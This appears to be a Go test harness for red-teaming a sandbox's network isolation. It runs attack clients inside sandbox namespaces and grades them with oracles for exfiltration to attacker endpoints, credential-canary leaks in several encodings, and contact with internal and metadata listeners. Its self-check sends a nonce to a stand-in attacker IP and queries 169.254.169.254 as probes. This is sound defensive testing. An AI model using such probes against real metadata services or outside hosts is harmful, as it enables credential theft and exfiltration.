var rt49Policy = map[string]any{"mode": "allowlist", "allow": []string{"registry.test:443,80 GET,HEAD /simple/*,/packages/*,/debian/*", "*.registry.test:443 GET,HEAD"}}

// credCtrl is the K cases' positive control: the placeholder goes to the
// bound host and api.test's checker sees the real value.
func (e *env) credCtrl(r *run) bool {
	before := e.wan.count("api.test credential-ok GET /v1/ctrl")
	r.rt("https", "api.test:443", "api.test", "/v1/ctrl", "GET", "Bearer $API_TOKEN")
	return e.wan.count("api.test credential-ok GET /v1/ctrl") > before
}

func internalAnswer(out string) bool {
	for _, s := range []string{"127.", "169.254.", "10.200.", "10.0.0.", "0.0.0.0"} {
		if strings.Contains(out, s) {
			return true
		}
	}
	return false
}

// gwAddr is the sandbox's gateway address (its veth's host end).
func (e *env) gwAddr(sb sbx) string {
	l, ok := e.srv.Network().Links.Get(sb.instance)
	if !ok {
		return "10.200.0.1"
	}
	return l.Host.String()
}

func (e *env) peerAddr() string {
	if e.peer == nil {
		return "10.200.0.6"
	}
	l, ok := e.srv.Network().Links.Get(e.peer.instance)
	if !ok {
		return "10.200.0.6"
	}
	return l.Guest.String()
}

// serverPorts are the control and data API ports (bound to 127.0.0.1 in
// the test's namespace).
func (e *env) serverPorts() []string {
	var out []string
	for _, a := range []string{e.srv.Addr()} {
		if ap, err := netip.ParseAddrPort(a); err == nil {
			out = append(out, strconv.Itoa(int(ap.Port())))
		}
	}
	return out
}

// netnsOf finds the network namespace holding the sandbox's eth0 address
// (a process in it: the sandbox's PID 1 or any other). Under gvisor it is
// the namespace the driver pinned before runsc started
// (<data>/gvisor/<id>/netns): runsc moved the address into gVisor's
// netstack, so no namespace holds it (guest gives it back for the run).
func (e *env) netnsOf(t *testing.T, sb sbx) string {
	t.Helper()
	l, ok := e.srv.Network().Links.Get(sb.instance)
	if !ok {
		t.Fatalf("no link for %s", sb.instance)
	}
	if p := e.gvisorNetns(sb); p != "" {
		return p
	}
	// The namespace's eth0 must be the peer of this sandbox's host veth:
	// another server's sandbox on this host may hold the same address.
	hostLink, err := netlink.LinkByName(l.HostIf)
	if err != nil {
		t.Fatalf("host veth %s: %v", l.HostIf, err)
	}
	self, _ := os.Readlink("/proc/self/ns/net")
	seen := map[string]bool{self: true}
	procs, _ := filepath.Glob("/proc/[0-9]*/ns/net")
	for _, p := range procs {
		id, err := os.Readlink(p)
		if err != nil || seen[id] {
			continue
		}
		seen[id] = true
		ns, err := vns.GetFromPath(p)
		if err != nil {
			continue
		}
		h, err := netlink.NewHandleAt(ns)
		if err != nil {
			ns.Close()
			continue
		}
		found := false
		if lk, err := h.LinkByName("eth0"); err == nil && lk.Attrs().ParentIndex == hostLink.Attrs().Index {
			if addrs, err := h.AddrList(lk, netlink.FAMILY_V4); err == nil {
				for _, a := range addrs {
					if a.IP.Equal(l.Guest.AsSlice()) {
						found = true
					}
				}
			}
		}
		h.Close()
		ns.Close()
		if found {
			return p
		}
	}
	t.Fatalf("no network namespace holds %s", l.Guest)
	return ""
}

// guest runs the red-team client as real root (CAP_NET_RAW included)
// inside the sandbox's network namespace: the netns-guest execution.
func (e *env) guest(t *testing.T, sb sbx, args ...string) string {
	t.Helper()
	ns := e.netnsOf(t, sb)
	if e.gvisorNetns(sb) != "" {
		undo := e.guestLink(t, sb, ns)
		defer undo()
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "nsenter", append([]string{"--net=" + ns, filepath.Join(e.tmp, "rootfs", "bin", "rt")}, args...)...)
	b, _ := cmd.CombinedOutput()
	s := strings.TrimSpace(string(b))
	t.Logf("[netns-guest] rt %s -> %s", strings.Join(args, " "), s)
	return s
}

// encodings of a secret that must never appear outside its upstream.
func encodings(s string) []string {
	out := []string{s, base64.StdEncoding.EncodeToString([]byte(s)), base64.RawURLEncoding.EncodeToString([]byte(s)), url.QueryEscape(s)}
	j, _ := json.Marshal(s)
	out = append(out, strings.Trim(string(j), `"`))
	return out
}

// runCatalogue runs every case in every mode it names, runs times each.
func (e *env) runCatalogue(t *testing.T, rep *report, runs int, credID string) {
	for _, c := range e.catalogue() {
		for _, mode := range c.modes {
			execs := []string{"sandbox"}
			if c.guest {
				execs = append(execs, "netns-guest")
			}
			for _, ex := range execs {
				if c.run == nil {
					why := "firecracker execution only; the namespace driver has no vsock (O-HOST is checked on every run)"
					if e.srv != nil && e.srv.Node().DriverName() != "namespace" {
						why = "firecracker execution only; the " + e.srv.Node().DriverName() + " driver has no vsock (O-HOST is checked on every run)"
					}
					rep.add(outcome{mode: mode, exec: ex, id: c.id, title: c.title, class: c.class, tier: c.tier, verdict: "N/A", why: why})
					continue
				}
				for i := 0; i < runs; i++ {
					name := fmt.Sprintf("%s/%s/%s/%d", c.id, mode, ex, i+1)
					t.Run(name, func(t *testing.T) {
						rep.add(e.runCase(t, c, mode, ex, credID))
					})
				}
			}
		}
	}
}

func (e *env) runCase(t *testing.T, c rtCase, mode, ex, credID string) outcome {
	pol := e.policy(mode, credID)
	if c.id == "RT-49" {
		pol = rt49Policy
	}
	sb := e.create(t, pol)
	defer e.cl.Delete(context.Background(), sb.ID)
	return e.runCaseIn(t, c, mode, ex, sb)
}

// runCaseIn runs one case in an existing sandbox sb (runCase's fresh one,
// or one the qemu run reuses for several cases: a VM boot costs seconds).
// Every oracle starts from this call: the sandbox's earlier cases do not
// count.
func (e *env) runCaseIn(t *testing.T, c rtCase, mode, ex string, sb sbx) outcome {
	r := &run{t: t, e: e, sb: sb, mode: mode, exec: ex, n: nonce()}
	// Packet-level cases (guest) from the sandbox: gvisor, and since its
	// root lacks CAP_NET_ADMIN and CAP_NET_RAW the namespace driver too,
	// may be unable to express the attack at all (gvisorNA).
	if (ex == "sandbox" && (e.gvisorNetns(sb) != "" || c.guest)) || (ex != "netns-guest" && e.isQEMU()) {
		r.veth = e.captureVeth(t, sb)
		defer r.veth.Close()
	}
	if ex != "netns-guest" && e.isQEMU() {
		r.tap = e.captureTap(t, sb)
		defer r.tap.Close()
	}
	l := e.log(t, sb)
	r.counters = l.Counters
	r.seq = e.seq(t, sb)
	r.wireMark = e.wan.wire.mark()
	r.internal = len(e.wan.internalContacts())
	r.peerLog = len(e.peerContacts(t))
	attackerBefore := e.wan.attackerCount()
	// The mode's positive control, in the same sandbox, before the attack
	// (some attacks break the sandbox's own network on purpose).
	var ctrl bool
	switch mode {
	case modeB:
		ctrl = strings.Contains(e.run(t, sb, "loop"), "loopback ok")
	default:
		ctrl = strings.Contains(e.run(t, sb, "http", "registry.test:80", "registry.test", "/simple/"), "registry ok")
	}
	c.run(r)
	r.qemuVerdict(c.id) // qemu only (qemu_test.go); nothing under other drivers
	if !r.noCtrl {
		r.ctrl = ctrl
	}
	o := outcome{mode: mode, exec: ex, id: c.id, title: c.title, class: c.class, tier: c.tier}
	// O-FLAG, O-WIRE. In open mode the attacker's public endpoints are
	// reachable by design: there only forwarded raw packets count.
	var bypass []string
	if mode != modeO {
		if e.wan.attackerSaw(r.n) {
			bypass = append(bypass, "an attacker endpoint logged NONCE")
		}
		if e.wan.wire.sawTo(r.wireMark, r.n) {
			bypass = append(bypass, "NONCE on the wire towards the attacker")
		}
		if strings.Contains(strings.Join(r.outputs, "\n"), e.wan.flag) {
			bypass = append(bypass, "FLAG in the sandbox's output")
		}
	}
	if mode == modeB && (e.wan.asked(r.n) || e.wan.asked(hex.EncodeToString([]byte(r.n)))) {
		bypass = append(bypass, "NONCE reached the upstream resolver (R17)")
	}
	if v := e.wan.wire.violations(r.wireMark); len(v) > 0 {
		bypass = append(bypass, "raw packets forwarded: "+strings.Join(v[:min(3, len(v))], "; "))
	}
	if mode == modeB {
		if d := r.delta("upstream_sockets"); d > 0 {
			bypass = append(bypass, fmt.Sprintf("%d upstream sockets for a blocked sandbox (R17)", d))
		}
		if e.wan.attackerCount() > attackerBefore {
			bypass = append(bypass, "an attacker endpoint was contacted")
		}
	}
	// O-CANARY, O-INTERNAL, O-HOST over every output.
	var leak, internal, escape []string
	all := strings.Join(r.outputs, "\n")
	for _, enc := range encodings(e.wan.canary) {
		if strings.Contains(all, enc) || e.wan.sawEventExceptChecker(enc) {
			leak = append(leak, "credential (or an encoding of it) outside api.test's checker")
			break
		}
	}
	if ic := e.wan.internalContacts(); len(ic) > r.internal {
		internal = append(internal, "internal listener contacted: "+ic[r.internal])
	}
	for _, f := range []string{"META-FLAG", "CORP-FLAG", "HOST-LO-FLAG", "HOST-ANY-FLAG", "PEER-FLAG"} {
		if strings.Contains(all, f) {
			internal = append(internal, f+" in output")
		}
	}
	if pc := e.peerContacts(t); len(pc) > r.peerLog {
		internal = append(internal, "the peer sandbox logged a contact: "+pc[r.peerLog])
	}
	if strings.Contains(all, e.hostCanary) {
		escape = append(escape, "host canary content in output")
	}
	switch {
	case len(escape) > 0:
		o.verdict, o.why = "FAIL-E", strings.Join(escape, "; ")
	case len(leak) > 0:
		o.verdict, o.why = "FAIL-K", strings.Join(leak, "; ")
	case len(internal) > 0:
		o.verdict, o.why = "FAIL-I", strings.Join(internal, "; ")
	case len(bypass) > 0 && r.pClass:
		o.verdict, o.why = "FAIL-P", strings.Join(bypass, "; ")
	case len(bypass) > 0:
		o.verdict, o.why = "FAIL-B", strings.Join(bypass, "; ")
	case r.na != "" && !r.deny && r.ctrl && len(r.invalid) == 0:
		o.verdict, o.why = "N/A", r.na // gvisor and qemu only: see gvisorNA, qemuNA
	case !r.deny || !r.ctrl || len(r.invalid) > 0:
		o.verdict = "INVALID"
		o.why = fmt.Sprintf("denial logged %v, positive control %v %s; counters grew: %s; decisions: %s", r.deny, r.ctrl, strings.Join(r.invalid, "; "), r.grown(), r.evidence())
	default:
		o.verdict = "PASS"
		o.why = strings.TrimPrefix(strings.Join([]string{r.evidence(), r.note}, "; "), "; ")
	}
	if r.veth != nil && e.isQEMU() {
		time.Sleep(200 * time.Millisecond)
		r.veth.Close()
		if _, a := r.veth.summary(); len(a) > 0 { // evidence only: the host rules decide
			t.Logf("qemu: %d packets of the attack's kind reached the host veth (QEMU's namespace let them through; the host rules met them): %s", len(a), strings.Join(a[:min(6, len(a))], "; "))
		}
	}
	if o.verdict == "N/A" {
		t.Logf("%s %s (%s, %s): N/A — %s", c.id, c.title, mode, ex, o.why)
	} else if o.verdict != "PASS" {
		t.Errorf("%s %s (%s, %s): %s — %s", c.id, c.title, mode, ex, o.verdict, o.why)
	}
	return o
}

// rtRuns is the number of runs per case and mode: SPACE_RT_RUNS, default
// 1 (the everyday gate); the published report is a 3-run execution, as
// redteam-cases.md §2.3 asks (SPACE_RT_RUNS=3).
func rtRuns() int {
	if n, err := strconv.Atoi(os.Getenv("SPACE_RT_RUNS")); err == nil && n > 0 {
		return n
	}
	return 1
}

// startPeer starts the peer sandbox (open mode) with a listener on :8000
// that logs every connection to /tmp/peer.log (the O-INTERNAL peer oracle,
// read back through the peer's own agent).
func (e *env) startPeer(t *testing.T) {
	t.Helper()
	e.startPeerOn(t, e.create(t, map[string]any{"mode": "open"}))
}

// startPeerOn makes p (an open-mode sandbox) the peer.
func (e *env) startPeerOn(t *testing.T, p sbx) {
	t.Helper()
	e.peer = &p
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if _, err := e.cl.StartCommand(ctx, p.Sandbox, []string{"/bin/rt", "listen", "0.0.0.0:8000", "/tmp/peer.log", "PEER-FLAG-" + e.wan.flag}); err != nil {
		t.Fatalf("peer listener: %v", err)
	}
	// The listener works from inside the peer itself (its control).
	for i := 0; ; i++ {
		if out := e.run(t, p, "http", "127.0.0.1:8000", "peer", "/self"); strings.Contains(out, "PEER-FLAG") {
			break
		}
		if i == 50 {
			t.Fatalf("the peer's listener does not answer")
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// peerContacts is the peer listener's log (one line per connection).
func (e *env) peerContacts(t *testing.T) []string {
	t.Helper()
	if e.peer == nil {
		return nil
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	var out strings.Builder
	if _, err := e.cl.Exec(ctx, e.peer.Sandbox, []string{"/bin/busybox", "cat", "/tmp/peer.log"}, func(b []byte) { out.Write(b) }); err != nil {
		t.Fatalf("peer log: %v", err)
	}
	var lines []string
	for _, l := range strings.Split(out.String(), "\n") {
		if strings.TrimSpace(l) != "" && !strings.Contains(l, "/self") {
			lines = append(lines, l)
		}
	}
	return lines
}

// checkOracles is the oracles' own positive control: each must see a
// contact that really happens, or a clean result would mean nothing.
// O-WIRE: a packet the host sends to the attacker from an address that is
// not the uplink's must show up as a violation carrying its payload.
// O-INTERNAL: a request from the host to the metadata listener is logged.
func (e *env) checkOracles(t *testing.T) {
	t.Helper()
	mark := e.wan.wire.mark()
	up, err := netlink.LinkByName("up0")
	if err != nil {
		t.Fatal(err)
	}
	probe := &netlink.Addr{IPNet: &net.IPNet{IP: net.ParseIP("192.0.2.77").To4(), Mask: net.CIDRMask(32, 32)}}
	if err := netlink.AddrAdd(up, probe); err != nil {
		t.Fatal(err)
	}
	defer netlink.AddrDel(up, probe)
	n := nonce()
	c, err := net.DialUDP("udp4", &net.UDPAddr{IP: net.ParseIP("192.0.2.77")}, &net.UDPAddr{IP: net.ParseIP(attackerIP), Port: 9999})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	// The probe is sent again every 250 ms: a capture that starts late or
	// drops one datagram under load must not fail the run; one that never
	// sees it (blind) still does.
	deadline := time.Now().Add(5 * time.Second)
	for i := 0; len(e.wan.wire.violations(mark)) == 0 || !e.wan.wire.sawTo(mark, n) || !e.wan.attackerSaw(n); i++ {
		if time.Now().After(deadline) {
			t.Fatalf("O-WIRE/O-FLAG are blind: violations %v, payload seen %v, flagd %v", e.wan.wire.violations(mark), e.wan.wire.sawTo(mark, n), e.wan.attackerSaw(n))
		}
		if i%12 == 0 {
			c.Write([]byte(n))
		}
		time.Sleep(20 * time.Millisecond)
	}
	before := len(e.wan.internalContacts())
	resp, err := http.Get("http://169.254.169.254/latest/meta-data/")
	if err != nil {
		t.Fatalf("O-INTERNAL: %v", err)
	}
	resp.Body.Close()
	if len(e.wan.internalContacts()) != before+1 {
		t.Fatalf("O-INTERNAL is blind: the metadata listener logged nothing")
	}
}
